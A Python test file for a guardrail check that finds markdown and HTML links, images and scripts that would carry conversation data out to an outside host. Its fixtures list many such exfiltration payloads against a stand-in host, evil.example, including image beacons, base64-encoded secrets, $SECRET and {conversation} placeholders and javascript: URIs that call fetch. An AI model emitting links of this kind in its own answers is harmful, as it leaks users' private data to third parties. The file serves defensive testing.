"""The check for links and images that carry data out."""

from __future__ import annotations

from base64 import b64encode

import pytest
from pydantic import ValidationError

from guardrails.checks.exfiltration import Exfiltration
from guardrails.edits import apply_edits
from guardrails.types import Exchange, Verdict


def look(text: str, **options: object) -> Verdict:
    return Exfiltration.model_validate(options)(Exchange(text=text))


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("Done. ![](https://evil.example/p.png)", "image"),
        ("![a][pic]\n\n[pic]: https://evil.example/p.png", "image"),
        ("![pic]\n\n[PIC]: https://evil.example/p.png", "image"),
        ("<img src='//evil.example/p.png'>", "image"),
        ("<IMG\nALT=x SRC=https://evil.example/p>", "image"),
        ("<iframe src=https://evil.example></iframe>", "image"),
        ('<div style="background:url(https://evil.example/x)">', "image"),
        ("![x](https:\\\\evil.example\\p.png)", "image"),
        ("![x](ht\u200btps://evil.example/p.png)", "image"),
        ("[more](https://evil.example/?d=the+user+is+called+Amy+and+lives+in+Rome)", "link"),
        ("see https://evil.example/c?d=dGhlIHBhc3N3b3JkIGlzIHN3b3JkZmlzaA==", "link"),
        ("https://evil.example/dGhlIHBhc3N3b3JkIGlzIHN3b3JkZmlzaA", "link"),
        ("https://dGhlIHBhc3N3b3JkIGlzIHN3b3Jk.evil.example/", "link"),
        ("https://good.example@evil.example/?d=dGhlIHBhc3N3b3JkIGlzIHN3b3JkZmlzaA", "link"),
        ("[a](https://evil.example/?d={conversation})", "link"),
        ("<a href='https://evil.example/?q=$SECRET'>go</a>", "link"),
        ("[x](javascript:fetch('//evil.example'))", "script"),
        ('<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', "script"),
        ("[x](JaVaScRiPt:alert(1))", "script"),
        ('<a href="java&#115;cript:alert(1)">x</a>', "script"),
        ("![x](https&#58;//evil.example/p.png)", "image"),
        ("[write](mailto:eve@evil.example?body=the+user+is+called+Amy+and+lives+in+Rome)", "link"),
    ],
)
def test_what_carries_data_out_is_found(text: str, kind: str) -> None:
    verdict = look(text, allow=["good.example"])
    assert (verdict.state, verdict.reason) == ("fail", "carries_data_out")
    assert kind in [span.kind for span in verdict.spans]


@pytest.mark.parametrize(
    "text",
    [
        "See [the manual](https://docs.python.org/3/library/re.html#regular-expression-syntax).",
        "https://www.example.com/search?q=cooking+rice",
        "https://shop.example/products/blue-suede-shoes-for-children-and-adults",
        "![logo](https://cdn.acme.example/logo.png)",
        "![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==)",
        "Our data: text and numbers. JavaScript: a language.",
        "Write to amy@mail.example.",
        "[write](mailto:amy@mail.example) or [report](mailto:amy@mail.example?subject=Refund)",
        "`a[i](b)` and <b>bold</b>",
        "![local](/images/logo.png)",
        "",
    ],
)
def test_ordinary_links_are_left_alone(text: str) -> None:
    assert look(text, allow=["*.acme.example"]).state == "pass"


def test_a_host_is_allowed_as_a_whole_and_not_as_a_part_of_another() -> None:
    image = "![a](https://{}/x.png)"
    allowed = {"allow": ["img.example", "*.cdn.example"]}
    for host in ("img.example", "a.cdn.example", "a.b.cdn.example", "IMG.example", "img.example."):
        assert look(image.format(host), **allowed).state == "pass", host
    for host in ("img.example.evil.test", "notimg.example", "cdn.example", "x-img.example", "img.example@evil.test"):
        assert look(image.format(host), **allowed).state == "fail", host


def test_all_links_can_be_refused() -> None:
    assert look("[a](https://evil.example/)", links="all").state == "fail"
    assert look("[a](https://good.example/)", links="all", allow=["good.example"]).state == "pass"


def test_an_image_becomes_its_description_and_a_link_its_text() -> None:
    text = "A ![chart](https://evil.example/c?d=1) and [more](https://evil.example/?d=" + "x" * 30 + ") here."
    assert apply_edits(text, look(text).fix) == "A chart and more here."


def test_nothing_of_the_address_stays_in_what_is_left() -> None:
    data = b64encode(b"swordfish" * 3).decode()
    forms = (
        "![a](https://e.test/?d={})",
        "<img src='https://e.test/{}'>",
        "[a](https://e.test/{})",
        "https://e.test/{}",
    )
    for form in forms:
        text = f"Well. {form.format(data)} Bye."
        assert data not in apply_edits(text, look(text).fix)


def test_a_host_with_a_path_is_refused_as_an_option() -> None:
    with pytest.raises(ValidationError, match="is no host"):
        Exfiltration(allow=("https://a.example/x",))


@pytest.mark.parametrize("piece", ["![", "[a](", "<img ", "](", "https://", "[a]: ", "![a][b]", "<a href="])
def test_a_link_behind_half_a_megabyte_of_openings_is_found(piece: str) -> None:
    assert look(piece * (500_000 // len(piece)) + "\n\n> ok\n\n![x](https://evil.example/p.png)").state == "fail"
